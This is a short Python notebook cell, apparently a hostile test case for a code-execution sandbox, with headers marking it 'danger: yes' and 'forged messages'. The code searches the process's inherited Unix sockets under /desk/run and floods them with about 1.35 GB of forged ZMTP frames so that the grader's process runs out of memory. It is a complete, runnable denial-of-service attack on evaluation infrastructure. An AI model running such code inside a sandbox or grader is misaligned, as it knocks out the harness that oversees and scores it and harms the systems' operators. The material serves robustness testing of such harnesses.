# intent: one message of endlessly many frames is written into the kernel's sockets by hand: each is small enough, and all wait at the grader for the last
# family: forged messages
# danger: yes
# stock: not run: it would take this machine down
# limits: cell_seconds=20
# before: the grader's own process took 1.4 GB in four seconds, and as much as it was sent

# %%
import os
import socket
import stat

frame = b"\x03" + (15_000_000).to_bytes(8, "big") + b"x" * 15_000_000  # ZMTP: a long frame, and more of them to come
for name in sorted(os.listdir("/proc/self/fd"), key=int):
    fd = int(name)
    try:
        if fd < 3 or not stat.S_ISSOCK(os.fstat(fd).st_mode):
            continue
        one = socket.socket(fileno=os.dup(fd))
        if one.family != socket.AF_UNIX or not str(one.getsockname()).startswith("/desk/run") or one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            continue
        one.settimeout(2)
        for _ in range(90):  # 1,350 MB
            one.sendall(frame)
    except OSError as error:
        print(fd, error)
